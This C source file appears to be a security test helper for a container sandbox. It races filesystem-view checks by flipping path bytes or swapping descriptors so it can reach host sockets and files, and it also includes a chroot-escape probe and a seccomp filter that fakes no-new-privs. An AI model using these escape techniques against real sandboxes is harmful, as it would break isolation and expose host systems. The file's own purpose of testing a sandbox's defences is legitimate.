/* racer: try to reach a host object from inside the container by racing the
 * filesystem view's check (docs/security.md, "The CONTINUE invariant").
 * Static, so it runs inside the busybox rootfs.
 *
 *   racer OP MODE PLACE TARGET [TRIES]
 *
 * OP      connect | sendto | chmod | stat | open | inotify
 * MODE    cwd    chdir(PLACE); a second thread flips the path's first two
 *                bytes between "/." (an absolute path in the rootfs, which a
 *                view may let the kernel run) and ".." (relative: from a
 *                working directory outside the root, up to the host's /)
 *         dirfd  the same, relative to a directory fd of PLACE
 *         scm    the same, relative to a directory fd of PLACE received
 *                with SCM_RIGHTS
 *         dup2   fd 100 flips by dup2 between a directory fd of "/" and one
 *                of PLACE while the call uses fd 100 with the relative path
 * PLACE   a directory of the container outside its rootfs (a mount: /dev,
 *         /dev/shm, /proc, /sys, a tmpfs, a bind mount)
 * TARGET  the host's absolute path of the target (a listening socket, a
 *         datagram socket, a root-only file, a directory)
 * TRIES   calls to make (default 20000); it also stops after 10 seconds.
 *
 *   racer euid                    print "euid=N" (a set-uid copy tells)
 *   racer exec-dirfd DIR NAME     execveat(fd of DIR, NAME, [NAME, "euid"])
 *   racer exec-fd PATH            execveat(fd of PATH, "", [PATH, "euid"],
 *                                 AT_EMPTY_PATH) (fexecve)
 *   racer chroot-escape DIR TARGET
 *                                 chroot(DIR) (a directory below the root),
 *                                 then chdir("..") 32 times from the old
 *                                 working directory, then stat(TARGET
 *                                 relative): "chroot ERR" or "stat OK|ERR"
 *   racer fchdir DIR FILE         fchdir(fd of DIR); print getcwd() and the
 *                                 first line of FILE (relative)
 *   racer as-uid UID CMD...       setgid(UID), setuid(UID), then exec CMD
 *   racer fake-nnp CMD...         install a filter that answers
 *                                 prctl(PR_SET_NO_NEW_PRIVS) 0 without
 *                                 running it (needs CAP_SYS_ADMIN), exec CMD
 *   racer prlimit PID             prlimit(PID, RLIMIT_CORE, {0, 0}): OK|ERR
 *   racer nice PID                setpriority(PRIO_PROCESS, PID, 19): OK|ERR
 *   racer listen PORT             TCP socket, bind 127.0.0.1:PORT unless
 *                                 PORT is 0, listen: "OK PORT" or ERR
 *   racer fifo-reopen PATH        mkfifo PATH, open it O_RDONLY|O_NONBLOCK,
 *                                 then open /proc/self/fd/N O_RDONLY: blocks
 *                                 until a writer comes; prints OK then
 *   The exec forms print the errno name when the exec fails.
 *
 * Prints "wins=N tries=M" and the errnos seen ("ENOENT=123 ..."), exits 0;
 * a win is a call that reached the host object (connect 0, sendto sent,
 * chmod 0, stat 0, open a descriptor, inotify a watch). Exit 2: usage or
 * set-up error. */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

#define UPS 16 /* "../" steps: deeper than any host path of the tests */
#define DFD 100

static char path[PATH_MAX];
static struct sockaddr_un gsa = {.sun_family = AF_UNIX};
static char *volatile flip = path; /* what the flipper rewrites */
static atomic_int stop;
static int fd_root = -1, fd_place = -1;
static int counts[256];

static void *flip_path(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		flip[0] = '/';
		flip[1] = '.';
		for (volatile int i = 0; i < 50; i++)
			;
		flip[0] = '.';
		flip[1] = '.';
		for (volatile int i = 0; i < 50; i++)
			;
	}
	return NULL;
}

static void *flip_fd(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		dup2(fd_root, DFD);
		for (volatile int i = 0; i < 50; i++)
			;
		dup2(fd_place, DFD);
		for (volatile int i = 0; i < 50; i++)
			;
	}
	return NULL;
}

static int recv_fd(int fd)
{
	int sv[2], out = -1;
	char c = 'x', cbuf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = {.iov_base = &c, .iov_len = 1};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof(cbuf)};
	struct cmsghdr *cm;

	if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv) < 0)
		return -1;
	cm = CMSG_FIRSTHDR(&m);
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	if (sendmsg(sv[0], &m, 0) < 0)
		return -1;
	memset(cbuf, 0, sizeof(cbuf));
	m.msg_controllen = sizeof(cbuf);
	if (recvmsg(sv[1], &m, 0) < 0 || !(cm = CMSG_FIRSTHDR(&m)))
		return -1;
	memcpy(&out, CMSG_DATA(cm), sizeof(int));
	close(sv[0]);
	close(sv[1]);
	close(fd);
	return out;
}

/* One try; 1 when it reached the target. */
static int try_once(const char *op, int dirfd, int sock_type)
{
	int r = -1;

	if (!strcmp(op, "connect") || !strcmp(op, "sendto")) {
		int s = socket(AF_UNIX, sock_type | SOCK_CLOEXEC, 0);
		if (s < 0)
			return -errno;
		if (sock_type == SOCK_STREAM)
			r = connect(s, (struct sockaddr *)&gsa, sizeof(gsa));
		else
			r = sendto(s, "x", 1, 0, (struct sockaddr *)&gsa, sizeof(gsa)) == 1 ? 0
			                                                                    : -1;
		if (r < 0)
			r = -errno;
		close(s);
		return r == 0 ? 1 : r;
	}
	if (!strcmp(op, "chmod"))
		r = fchmodat(dirfd, path, 0640, 0);
	else if (!strcmp(op, "stat")) {
		struct stat st;
		r = fstatat(dirfd, path, &st, 0);
	} else if (!strcmp(op, "open")) {
		r = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
		if (r >= 0) {
			close(r);
			r = 0;
		}
	} else if (!strcmp(op, "inotify")) {
		int in = inotify_init1(IN_CLOEXEC);
		r = inotify_add_watch(in, path, IN_ALL_EVENTS);
		if (r >= 0)
			r = 0;
		else
			r = -errno;
		close(in);
		return r == 0 ? 1 : r;
	}
	return r == 0 ? 1 : -errno;
}

int main(int argc, char **argv)
{
	const char *op, *mode, *place, *target;
	long tries = 20000, wins = 0, done = 0;
	int dirfd = AT_FDCWD, sock_type = SOCK_STREAM, off = 0;
	pthread_t th;
	struct timespec t0, t;

	if (argc >= 2 && !strcmp(argv[1], "euid"))
		return printf("euid=%d\n", (int)geteuid()), 0;
	if (argc == 4 && !strcmp(argv[1], "exec-dirfd")) {
		int d = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		char *args[] = {argv[3], "euid", NULL};
		if (d < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		execveat(d, argv[3], args, environ, 0);
		return printf("%s\n", strerrorname_np(errno)), 0;
	}
	if (argc == 3 && !strcmp(argv[1], "exec-fd")) {
		int f = open(argv[2], O_RDONLY | O_CLOEXEC);
		char *args[] = {argv[2], "euid", NULL};
		if (f < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		execveat(f, "", args, environ, AT_EMPTY_PATH);
		return printf("%s\n", strerrorname_np(errno)), 0;
	}
	if (argc == 3 && !strcmp(argv[1], "fifo-reopen")) {
		char self[64];
		int f;
		if (mkfifo(argv[2], 0600) < 0 || (f = open(argv[2], O_RDONLY | O_NONBLOCK)) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		snprintf(self, sizeof(self), "/proc/self/fd/%d", f);
		if (open(self, O_RDONLY) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		return printf("OK\n"), 0;
	}
	if (argc == 3 && !strcmp(argv[1], "listen")) {
		struct sockaddr_in in = {.sin_family = AF_INET,
		                         .sin_port = htons((uint16_t)atoi(argv[2])),
		                         .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
		socklen_t len = sizeof(in);
		int sk = socket(AF_INET, SOCK_STREAM, 0);
		if (sk < 0 || (in.sin_port && bind(sk, (struct sockaddr *)&in, sizeof(in)) < 0) ||
		    listen(sk, 1) < 0 || getsockname(sk, (struct sockaddr *)&in, &len) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		return printf("OK %d\n", ntohs(in.sin_port)), 0;
	}
	if (argc == 3 && !strcmp(argv[1], "prlimit")) {
		struct rlimit zero = {0, 0};
		if (prlimit((pid_t)atoi(argv[2]), RLIMIT_CORE, &zero, NULL) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		return printf("OK\n"), 0;
	}
	if (argc == 3 && !strcmp(argv[1], "nice")) {
		if (setpriority(PRIO_PROCESS, (id_t)atoi(argv[2]), 19) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		return printf("OK\n"), 0;
	}
	if (argc >= 4 && !strcmp(argv[1], "as-uid")) {
		if (setgid((gid_t)atoi(argv[2])) < 0 || setuid((uid_t)atoi(argv[2])) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		execvp(argv[3], argv + 3);
		return printf("%s\n", strerrorname_np(errno)), 0;
	}
	if (argc >= 3 && !strcmp(argv[1], "fake-nnp")) {
		struct sock_filter f[] = {
		    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_prctl, 0, 3),
		    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
		    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PR_SET_NO_NEW_PRIVS, 0, 1),
		    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
		    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		};
		struct sock_fprog prog = {sizeof(f) / sizeof(f[0]), f};
		if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		execvp(argv[2], argv + 2);
		return printf("%s\n", strerrorname_np(errno)), 0;
	}
	if (argc == 4 && !strcmp(argv[1], "fchdir")) {
		char buf[PATH_MAX];
		ssize_t n;
		int d = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC), f;
		if (d < 0 || fchdir(d) < 0 || !getcwd(buf, sizeof(buf)))
			return printf("%s\n", strerrorname_np(errno)), 0;
		printf("%s\n", buf);
		f = open(argv[3], O_RDONLY | O_CLOEXEC);
		if (f < 0 || (n = read(f, buf, sizeof(buf) - 1)) < 0)
			return printf("%s\n", strerrorname_np(errno)), 0;
		buf[n] = '\0';
		buf[strcspn(buf, "\n")] = '\0';
		return printf("%s\n", buf), 0;
	}
	if (argc == 4 && !strcmp(argv[1], "chroot-escape")) {
		struct stat st;
		if (chroot(argv[2]) < 0)
			return printf("chroot %s\n", strerrorname_np(errno)), 0;
		for (int i = 0; i < 32; i++)
			if (chdir("..") < 0)
				return printf("chdir %s\n", strerrorname_np(errno)), 0;
		if (stat(argv[3] + (argv[3][0] == '/'), &st) < 0)
			return printf("stat %s\n", strerrorname_np(errno)), 0;
		return printf("stat OK\n"), 0;
	}
	if (argc < 5)
		return fprintf(stderr, "usage: racer OP MODE PLACE TARGET [TRIES]\n"), 2;
	op = argv[1], mode = argv[2], place = argv[3], target = argv[4];
	if (argc > 5)
		tries = atol(argv[5]);
	if (!strcmp(op, "sendto"))
		sock_type = SOCK_DGRAM;
	for (int i = 0; i < UPS; i++)
		off += snprintf(path + off, sizeof(path) - (size_t)off, "../");
	snprintf(path + off, sizeof(path) - (size_t)off, "%s", target + (target[0] == '/'));
	if (sock_type == SOCK_DGRAM || !strcmp(op, "connect")) {
		if (strlen(path) >= sizeof(gsa.sun_path))
			return fprintf(stderr, "racer: path too long for a socket\n"), 2;
		memcpy(gsa.sun_path, path, strlen(path) + 1);
		flip = gsa.sun_path;
	}
	fd_root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	fd_place = open(place, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (fd_root < 0 || fd_place < 0)
		return perror(place), 2;
	if (!strcmp(mode, "cwd")) {
		if (chdir(place) < 0)
			return perror("chdir"), 2;
	} else if (!strcmp(mode, "dirfd")) {
		dirfd = fd_place;
	} else if (!strcmp(mode, "scm")) {
		dirfd = recv_fd(dup(fd_place));
		if (dirfd < 0)
			return perror("scm"), 2;
	} else if (!strcmp(mode, "dup2")) {
		dirfd = DFD;
	} else {
		return fprintf(stderr, "racer: unknown mode %s\n", mode), 2;
	}
	if (pthread_create(&th, NULL, !strcmp(mode, "dup2") ? flip_fd : flip_path, NULL) != 0)
		return 2;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (; done < tries; done++) {
		int r = try_once(op, dirfd, sock_type);
		if (r == 1)
			wins++;
		else if (-r > 0 && -r < 256)
			counts[-r]++;
		if ((done & 255) == 0) {
			clock_gettime(CLOCK_MONOTONIC, &t);
			if (t.tv_sec - t0.tv_sec >= 10)
				break;
		}
	}
	atomic_store(&stop, 1);
	pthread_join(th, NULL);
	printf("wins=%ld tries=%ld", wins, done);
	for (int e = 1; e < 256; e++)
		if (counts[e])
			printf(" %s=%d", strerrorname_np(e) ? strerrorname_np(e) : "E?", counts[e]);
	printf("\n");
	return 0;
}
